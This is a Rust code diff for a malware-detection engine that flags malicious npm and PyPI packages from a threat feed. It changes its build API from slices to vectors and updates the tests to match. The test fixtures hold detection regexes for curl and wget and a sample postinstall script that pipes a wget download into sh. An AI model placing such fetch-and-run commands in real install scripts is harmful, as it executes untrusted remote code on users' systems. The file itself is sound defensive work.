@@ -38,7 +38,7 @@ impl Sizes {
 ///     md5: None, sha1: None, sha256: None, sha512: None,
 ///     source: Some("osv".into()), source_id: Some("MAL-2025-1".into()), affected: None,
 /// };
-/// let engine = Engine::build(&[event], Knowledge::default());
+/// let engine = Engine::build(vec![event], Knowledge::default());
 /// let verdicts = engine.check(&Query::package("npm", "evil", Some("1.0.0")));
 /// assert_eq!(verdicts[0].rule, Rule::KnownMalicious);
 /// assert_eq!(verdicts[0].reference.as_deref(), Some("MAL-2025-1"));
@@ -49,7 +49,6 @@ pub struct Engine {
     feed: Feed,
     curated: Curated,
     indicators: Indicators,
-    knowledge: Knowledge,
     warnings: Vec<String>,
     pub(crate) marks: Vec<(String, i64)>,
     pub(crate) files: Knowledge,
@@ -57,7 +56,7 @@ pub struct Engine {
 
 impl Engine {
     /// An engine of the feed's `events` (in feed order) and `knowledge`.
-    pub fn build(events: &[PackageEvent], knowledge: Knowledge) -> Engine {
+    pub fn build(events: Vec<PackageEvent>, knowledge: Knowledge) -> Engine {
         let mut engine = Engine::default();
         engine.apply_events(events);
         engine.set_knowledge(knowledge);
@@ -77,18 +76,19 @@ impl Engine {
     }
 
     /// Advances the feed state by events after [`Engine::seq`]; earlier ones are ignored.
-    pub fn apply_events(&mut self, events: &[PackageEvent]) {
+    pub fn apply_events(&mut self, events: Vec<PackageEvent>) {
         self.feed.apply(events);
     }
 
     /// Replaces curated rules and indicators (ToolTrust files given at load are kept).
     pub fn set_knowledge(&mut self, mut knowledge: Knowledge) {
-        knowledge.merge(self.files.clone());
+        if !self.files.is_empty() {
+            knowledge.merge(self.files.clone());
+        }
         let mut warnings = Vec::new();
         self.curated = Curated::build(&knowledge.rules, &mut warnings);
-        self.indicators = Indicators::build(&knowledge.indicators, &mut warnings);
+        self.indicators = Indicators::build(knowledge.indicators, &mut warnings);
         self.warnings = warnings;
-        self.knowledge = knowledge;
     }
 
     /// The last feed event applied.
@@ -105,11 +105,6 @@ impl Engine {
     /// Rules and indicators the engine had to leave out, each naming what and why.
     pub fn warnings(&self) -> &[String] {
         &self.warnings
-    }
-
-    /// The curated rules and indicators in force (ToolTrust files included).
-    pub fn knowledge(&self) -> &Knowledge {
-        &self.knowledge
     }
 }
 
@@ -162,7 +157,7 @@ mod tests {
             event(1, "NEW_MALICIOUS", "fsevents", None, Some("MAL-2023-462")),
             &[intro("1.0.0"), fixed("1.2.11")],
         );
-        let engine = Engine::build(&[e], Knowledge::default());
+        let engine = Engine::build(vec![e], Knowledge::default());
         assert_eq!(hit(&engine, "fsevents", "2.3.3"), None, "chokidar's fsevents is clean");
         let v = &engine.check(&Query::package("npm", "fsevents", Some("1.2.10")))[0];
         assert_eq!(
@@ -180,13 +175,13 @@ mod tests {
     fn a_range_change_is_an_fp_of_the_old_range_and_a_new_announcement() {
         let old = ranged(event(1, "NEW_MALICIOUS", "x", None, Some("MAL-1")), &[intro("0")]);
         let other = event(2, "NEW_MALICIOUS", "x", Some("0.5.0"), Some("MAL-2"));
-        let mut engine = Engine::build(&[old.clone(), other], Knowledge::default());
+        let mut engine = Engine::build(vec![old.clone(), other], Knowledge::default());
         assert!(hit(&engine, "x", "0.1.0").unwrap().contains("every version"));
         let mut fp = old;
         fp.seq = 3;
         fp.event_type = "FP".into();
         let narrowed = ranged(event(4, "NEW_MALICIOUS", "x", None, Some("MAL-1")), &[intro("1.0.0"), fixed("1.1.0")]);
-        engine.apply_events(&[fp, narrowed]);
+        engine.apply_events(vec![fp, narrowed]);
         assert_eq!(hit(&engine, "x", "0.1.0"), None, "the FP withdrew the old range");
         assert!(hit(&engine, "x", "1.0.5").is_some(), "the new range holds");
         assert!(hit(&engine, "x", "0.5.0").is_some(), "another report's version is untouched by MAL-1's FP");
@@ -198,16 +193,16 @@ mod tests {
         let b = ranged(event(2, "NEW_MALICIOUS", "y", None, Some("MAL-2")), &[intro("2.0.0"), fixed("2.1.0")]);
         // A rename without ranges (a reclassification's NEW_THREAT_NAME) must not widen MAL-2.
         let rename = event(3, "NEW_THREAT_NAME", "y", None, None);
-        let mut engine = Engine::build(&[a, b, rename], Knowledge::default());
+        let mut engine = Engine::build(vec![a, b, rename], Knowledge::default());
         assert!(hit(&engine, "y", "1.0.0").is_some() && hit(&engine, "y", "2.0.5").is_some());
         assert_eq!(hit(&engine, "y", "3.0.0"), None);
         let mut fp = event(4, "FP", "y", None, None);
         fp.source = Some("reclassify".into());
-        engine.apply_events(&[fp]);
+        engine.apply_events(vec![fp]);
         assert_eq!((hit(&engine, "y", "1.0.0"), hit(&engine, "y", "2.0.5")), (None, None));
         assert_eq!(engine.seq(), 4);
         // Applying an older batch again changes nothing.
-        engine.apply_events(&[event(2, "NEW_MALICIOUS", "y", Some("1.0.0"), Some("MAL-1"))]);
+        engine.apply_events(vec![event(2, "NEW_MALICIOUS", "y", Some("1.0.0"), Some("MAL-1"))]);
         assert_eq!(hit(&engine, "y", "1.0.0"), None);
     }
 
@@ -215,7 +210,7 @@ mod tests {
     fn versions_compare_by_the_ecosystems_order() {
         let mut e = event(1, "NEW_MALICIOUS", "Req_Uests", Some("2.0"), Some("MAL-9"));
         e.community = Some("pypi".into());
-        let engine = Engine::build(&[e], Knowledge::default());
+        let engine = Engine::build(vec![e], Knowledge::default());
         assert!(!engine.check(&Query::package("PyPI", "req-uests", Some("2.0.0"))).is_empty(), "PEP 440: 2.0 == 2.0.0");
         assert!(engine.check(&Query::package("PyPI", "req-uests", Some("2.0.1"))).is_empty());
     }
@@ -237,8 +232,10 @@ mod tests {
     #[test]
     fn sha256_indicators_match_archive_hashes() {
         let hex = "ab".repeat(32);
-        let engine =
-            Engine::build(&[], Knowledge::new(vec![], vec![indicator(IndicatorKind::Sha256, &hex, MatchKind::Exact)]));
+        let engine = Engine::build(
+            vec![],
+            Knowledge::new(vec![], vec![indicator(IndicatorKind::Sha256, &hex, MatchKind::Exact)]),
+        );
         let hashes = [("sha256", hex.clone())];
         let q = Query { hashes: &hashes, ..Query::package("PyPI", "anything", Some("1.0")) };
         let v = engine.check(&q);
@@ -254,7 +251,7 @@ mod tests {
             indicator(IndicatorKind::ScriptPattern, "curl (.*", MatchKind::Regex),
             indicator(IndicatorKind::ScriptPattern, r"wget\s+http", MatchKind::Regex),
         ];
-        let engine = Engine::build(&[], Knowledge::new(vec![], iocs));
+        let engine = Engine::build(vec![], Knowledge::new(vec![], iocs));
         assert_eq!(engine.warnings().len(), 1, "{:?}", engine.warnings());
         assert!(engine.warnings()[0].contains("\"curl (.*\"") && engine.warnings()[0].contains("not a valid regex"));
         let scripts = [("postinstall".to_owned(), "wget  http://x/y | sh".to_owned())];
